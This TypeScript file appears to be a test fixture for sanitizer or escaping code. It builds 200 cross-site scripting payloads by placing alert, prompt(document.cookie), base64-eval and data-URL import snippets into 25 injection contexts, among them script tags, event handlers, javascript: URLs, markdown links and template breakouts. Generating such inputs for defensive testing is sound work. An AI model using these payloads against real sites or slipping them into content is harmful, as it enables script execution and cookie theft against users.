// Texts that do harm if a careless page puts them into its markup, its attributes, its URLs or its code.

const CODE = [
  'alert(1)',
  'alert`1`',
  'confirm(document.domain)',
  'prompt(document.cookie)',
  '(()=>{throw onerror=alert,1})()',
  'top[`al`+`ert`](1)',
  "eval(atob('YWxlcnQoMSk='))",
  "import('data:text/javascript,alert(1)')",
] as const;

/** Ways to put code into a text such that a careless page would run the code. */
const PLACES: readonly ((code: string) => string)[] = [
  (code) => `<script>${code}</script>`,
  (code) => `<img src=x onerror="${code}">`,
  (code) => `<svg/onload="${code}">`,
  (code) => `"><img src=x onerror='${code}'>`,
  (code) => `'-${code}-'`,
  (code) => `</textarea><script>${code}</script>`,
  (code) => `<details open ontoggle="${code}">`,
  (code) => `<iframe srcdoc="<script>${code}</script>">`,
  (code) => `<a href="javascript:${code}">win</a>`,
  (code) => `javascript:${code}//https://x.example`,
  (code) => `https://x.example/"onmouseover="${code}`,
  (code) => `https://x.example/'><svg onload='${code}'>`,
  (code) => `[win](javascript:${code})`,
  (code) => `<math><mtext><style><img src onerror="${code}"></style></mtext></math>`,
  (code) => `\${${code}}`,
  (code) => `{{constructor.constructor('${code}')()}}`,
  (code) => `<input autofocus onfocus="${code}">`,
  (code) => `<video><source onerror="${code}"></video>`,
  (code) => `<style>@import 'javascript:${code}';</style>`,
  (code) => `<form action="javascript:${code}"><button>win</button></form>`,
  (code) => `&lt;script&gt;${code}&lt;/script&gt;`,
  (code) => `%3Cscript%3E${code}%3C/script%3E`,
  (code) => `@Ana<b onpointerenter="${code}">@Ben</b>`,
  (code) => `<object data="data:text/html,<script>${code}</script>"></object>`,
  (code) => `<!--><script>${code}</script>-->`,
];

/** All 200 combinations. Each is at most 120 characters long and has no line break. */
export const PAYLOADS: readonly string[] = PLACES.flatMap((place) => CODE.map(place));
